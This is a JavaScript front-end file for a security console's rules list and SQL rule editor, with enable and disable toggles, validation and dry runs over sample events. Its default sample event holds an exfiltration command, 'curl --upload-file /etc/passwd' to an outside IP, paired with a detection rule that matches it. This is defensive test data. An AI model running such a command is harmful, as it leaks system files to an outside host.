// Rules: packs and rules with their counters, enable/disable, and the editor (validate with
// positions, dry-run over sample events — the code path of `vedette rules test`).
import { html, useState, useEffect, useRef } from "../vendor/htm-preact.js";
import { api, can } from "../api.js";
import { Empty, ErrorNote, Sev, SEVERITIES } from "./common.js";
import { tokenize } from "../sql.js";

export function RulesView({ me }) {
  const [data, setData] = useState(null);
  const [error, setError] = useState(null);
  const [msg, setMsg] = useState(null);
  const [busy, setBusy] = useState("");
  const load = () =>
    api("/api/v1/rules")
      .then((d) => (setData(d), setError(null)))
      .catch(setError);
  useEffect(() => {
    load();
    const t = setInterval(load, 5000);
    return () => clearInterval(t);
  }, []);
  // Rules are shared by every tenant: changing them needs a fleet-wide analyst.
  const manage = can(me.role, "analyst") && me.tenant === "*";
  const toggle = async (r) => {
    setBusy(r.id);
    setMsg(null);
    try {
      await api(`/api/v1/rules/${encodeURIComponent(r.id)}/${r.enabled ? "disable" : "enable"}`, { method: "POST" });
      setMsg(`${r.id} ${r.enabled ? "disabled" : "enabled"}.`);
      await load();
    } catch (e) {
      setMsg(e.message);
    } finally {
      setBusy("");
    }
  };
  const apply = async () => {
    setMsg(null);
    try {
      const r = await api("/api/v1/rules/apply", { method: "POST" });
      setMsg(`Applied: ${r.packs.map((p) => `${p[0]} v${p[1]}`).join(", ")}.`);
      load();
    } catch (e) {
      setMsg(e.message);
    }
  };
  const rules = data ? data.rules : null;
  return html`<main class="rules">
    <div class="head"><h1>Rules</h1>
      ${can(me.role, "analyst") && html`<a class="button" href="#/rules/editor" id="new-rule">New rule…</a>`}
      ${manage && html`<button class="secondary" onClick=${apply}>Re-read packs</button>`}
    </div>
    ${data && data.last_error && html`<p class="error" role="alert">Last apply refused (the previous rules still run): ${data.last_error}</p>`}
    <p role="status" class="status">${msg}</p>
    <${ErrorNote} error=${error} />
    ${rules === null && !error
      ? html`<p class="muted">Loading…</p>`
      : rules && rules.length === 0
        ? html`<${Empty} title="No rules">Put packs in the packs directory and re-read them.</${Empty}>`
        : rules &&
          html`<div class="scroller"><table class="grid" id="rule-table">
            <thead><tr><th>Rule</th><th>Pack</th><th>Table</th><th>Severity</th><th class="num">Evaluations</th><th class="num">Alerts</th><th class="num">Late rows</th><th class="num">Open windows</th><th>Enabled</th></tr></thead>
            <tbody>${rules.map(
              (r) => html`<tr key=${r.id} data-rule=${r.id}>
                <td><code>${r.id}</code><br /><span class="muted">${r.name}</span></td>
                <td>${r.pack} v${r.version}</td>
                <td>${r.table}</td>
                <td><${Sev} s=${r.severity} /></td>
                <td class="num">${r.evaluations}</td>
                <td class="num">${r.alerts}</td>
                <td class="num">${r.late_rows}</td>
                <td class="num">${r.windowed ? r.open_windows : "—"}</td>
                <td>${manage
                  ? html`<button role="switch" aria-checked=${r.enabled} class="switch ${r.enabled ? "on" : ""}" disabled=${busy === r.id}
                      aria-label="${r.enabled ? "Disable" : "Enable"} ${r.id}" data-toggle=${r.id} onClick=${() => toggle(r)}>${r.enabled ? "on" : "off"}</button>
                      ${r.overridden ? html` <span class="muted" title="set by an operator, not the pack">override</span>` : null}`
                  : html`<span>${r.enabled ? "on" : "off"}</span>`}</td>
              </tr>`,
            )}</tbody></table></div>`}
  </main>`;
}

const TEMPLATE = `SELECT host, user, pid, exe, cmdline
FROM process_events
WHERE event_type = 'start'
  AND exe LIKE '%/curl'
  AND cmdline ILIKE '%--upload-file%'`;

const SAMPLE = `{"host":"web-1","user":"www-data","pid":4242,"ppid":1,"exe":"/usr/bin/curl","cmdline":"curl --upload-file /etc/passwd http://203.0.113.9/","event_type":"start","ts":"2026-12-01T10:00:00Z"}
{"host":"web-1","user":"alice","pid":4243,"ppid":1,"exe":"/usr/bin/curl","cmdline":"curl https://example.org/","event_type":"start","ts":"2026-12-01T10:00:01Z"}`;

/** A textarea over a highlighted copy of its text, with line numbers and error marks. */
function SqlEditor({ value, onChange, marks, onRun }) {
  const area = useRef(null);
  const shadow = useRef(null);
  const gutter = useRef(null);
  const sync = () => {
    if (!area.current) return;
    shadow.current.scrollTop = area.current.scrollTop;
    shadow.current.scrollLeft = area.current.scrollLeft;
    gutter.current.scrollTop = area.current.scrollTop;
  };
  const lines = value.split("\n");
  const bad = new Map(marks.map((m) => [m.line, m]));
  const onKey = (e) => {
    if (e.key === "Enter" && (e.ctrlKey || e.metaKey)) {
      e.preventDefault();
      onRun();
    } else if (e.key === "Tab" && !e.shiftKey && !e.altKey) {
      // Two spaces; Esc then Tab leaves the editor (keyboard users are never trapped).
      if (area.current.dataset.escaped === "1") return;
      e.preventDefault();
      const el = e.target;
      const { selectionStart: a, selectionEnd: b } = el;
      onChange(value.slice(0, a) + "  " + value.slice(b));
      requestAnimationFrame(() => el.setSelectionRange(a + 2, a + 2));
    } else if (e.key === "Escape") {
      area.current.dataset.escaped = "1";
    } else {
      area.current.dataset.escaped = "";
    }
  };
  return html`<div class="editor">
    <div class="gutter" ref=${gutter} aria-hidden="true">${lines.map(
      (_, i) => html`<div class=${bad.has(i + 1) ? "bad" : ""} title=${bad.has(i + 1) ? bad.get(i + 1).message : ""}>${i + 1}</div>`,
    )}</div>
    <div class="code">
      <pre class="shadow" ref=${shadow} aria-hidden="true">${lines.map(
        (line, i) => html`<div class=${bad.has(i + 1) ? "line bad" : "line"}>${tokenize(line).map(([k, t]) => html`<span class="t-${k}">${t}</span>`)}${"\n"}</div>`,
      )}</pre>
      <textarea id="sql" aria-label="Rule SQL (Ctrl+Enter: dry run; Esc then Tab: leave the editor)" spellcheck="false"
        ref=${area} value=${value} onInput=${(e) => onChange(e.target.value)} onScroll=${sync} onKeyDown=${onKey}
        aria-describedby="problems" />
    </div>
  </div>`;
}

export function EditorView({ me }) {
  const [id, setId] = useState("draft.rule");
  const [name, setName] = useState("Draft rule");
  const [severity, setSeverity] = useState("high");
  const [sql, setSql] = useState(TEMPLATE);
  const [events, setEvents] = useState(SAMPLE);
  const [problems, setProblems] = useState(null);
  const [result, setResult] = useState(null);
  const [busy, setBusy] = useState(false);
  const [error, setError] = useState(null);
  if (!can(me.role, "analyst")) {
    return html`<main><p><a href="#/rules">← Rules</a></p><p class="error">The editor needs an analyst token.</p></main>`;
  }
  // JSON is YAML: the draft pack goes to the API as JSON text.
  const pack = () =>
    JSON.stringify({ name: "console-draft", version: 1, rules: [{ id, name, severity, sql }] }, null, 1);
  const run = async (what) => {
    setBusy(true);
    setError(null);
    try {
      if (what === "validate") {
        const v = await api("/api/v1/rules/validate", { method: "POST", body: { pack: pack() } });
        setProblems(v.errors);
        setResult(null);
      } else {
        const r = await api("/api/v1/rules/test", { method: "POST", body: { pack: pack(), events } });
        setProblems(r.errors);
        setResult(r);
      }
    } catch (e) {
      setError(e);
    } finally {
      setBusy(false);
    }
  };
  const upload = async (e) => {
    const f = e.target.files[0];
    if (f) setEvents(await f.text());
  };
  const marks = (problems || []).filter((p) => p.in === "sql" && p.line);
  return html`<main class="editorview">
    <p><a href="#/rules">← Rules</a></p>
    <h1>Rule editor</h1>
    <p class="muted">Validate compiles the rule against this engine's tables and reference tables; Dry run
      evaluates it over the sample events exactly as <code>vedette rules test</code> does. Neither changes the running rules.</p>
    <div class="row">
      <label>Id <input id="rule-id" value=${id} onInput=${(e) => setId(e.target.value)} /></label>
      <label>Title <input value=${name} onInput=${(e) => setName(e.target.value)} size="30" /></label>
      <label>Severity <select value=${severity} onChange=${(e) => setSeverity(e.target.value)}>
        ${SEVERITIES.map((s) => html`<option value=${s} selected=${s === severity}>${s}</option>`)}</select></label>
    </div>
    <${SqlEditor} value=${sql} onChange=${setSql} marks=${marks} onRun=${() => run("test")} />
    <div class="row">
      <button id="validate" disabled=${busy} onClick=${() => run("validate")}>Validate</button>
      <button id="dry-run" disabled=${busy} onClick=${() => run("test")}>Dry run</button>
      <span class="muted">Ctrl+Enter in the editor: dry run</span>
    </div>
    <${ErrorNote} error=${error} />
    <div id="problems" aria-live="polite">
      ${problems && problems.length === 0 && html`<p class="ok" id="valid">✓ The rule compiles.</p>`}
      ${problems && problems.length > 0 &&
      html`<ul class="problems">${problems.map(
        (p) => html`<li class="error">${p.line ? html`<b>${p.in === "sql" ? "SQL" : "pack"} ${p.line}:${p.column}</b> ` : null}${p.message}</li>`,
      )}</ul>`}
    </div>
    <h2>Sample events <span class="muted">(one JSON object per line)</span></h2>
    <div class="row"><label>Load a file <input type="file" accept=".json,.jsonl,.ndjson,.txt" onChange=${upload} /></label></div>
    <textarea id="events" class="events" aria-label="Sample events, JSON lines" spellcheck="false" value=${events}
      onInput=${(e) => setEvents(e.target.value)} />
    ${result &&
    html`<section aria-labelledby="h-result" id="dry-run-result">
      <h2 id="h-result">Dry run: ${result.ok ? `${result.alerts.length} alert(s)` : "did not run"}</h2>
      ${result.event_errors.length > 0 &&
      html`<ul class="problems">${result.event_errors.map((e) => html`<li class="error"><b>event line ${e.line}</b> ${e.reason}</li>`)}</ul>`}
      ${(result.warnings ?? []).length > 0 &&
      html`<ul class="problems" id="dry-run-warnings">${result.warnings.map((w) => html`<li class="warning"><b>event line ${w.line}</b> ${w.reason}</li>`)}</ul>`}
      ${result.ok && result.alerts.length === 0 && html`<p class="muted">No event matched.</p>`}
      ${result.alerts.length > 0 &&
      html`<table class="grid" id="dry-run-alerts"><thead><tr><th>Rule</th><th>Event time</th><th>Row</th></tr></thead><tbody>
        ${result.alerts.map((a) => html`<tr><td>${a.rule_id}</td><td>${a.ts}</td><td><code>${JSON.stringify(a.row)}</code></td></tr>`)}
      </tbody></table>`}
    </section>`}
  </main>`;
}
